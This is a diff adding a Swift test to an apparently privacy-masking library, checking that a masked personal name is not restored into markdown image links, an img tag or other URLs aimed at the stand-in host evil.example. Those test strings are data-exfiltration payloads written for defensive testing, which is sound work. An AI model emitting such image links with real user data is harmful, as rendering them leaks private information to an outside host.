@@ -98,6 +98,21 @@ import Testing
         )
     }
 
+    @Test(
+        "not into addresses of other forms either, whole or in pieces",
+        arguments: [
+            "![l](<https://evil.example/ PERSON_1>)", "![l](<https://evil.example/p?a=\" PERSON_1>)",
+            "<img src=\"//evil.example/i?PERSON_1\">", "[b]: //evil.example/PERSON_1", "HTTPS:evil.example/PERSON_1",
+        ])
+    func otherAddresses(_ written: String) {
+        var mask = Mask(finder)
+        _ = mask.hide("Mia Kim asks.")
+        #expect(!mask.restore(written).contains("Mia"))
+        var (rest, shown) = ("", "")
+        for character in written { shown += mask.restore(next: String(character), rest: &rest) }
+        #expect(!(shown + mask.restore(rest)).contains("Mia"))
+    }
+
     @Test("a name with characters in it that nobody sees is hidden all the same")
     func unseen() {
         var mask = Mask(PersonalData(names: RosterNames([.init(given: "Mia", family: "Kim")])))
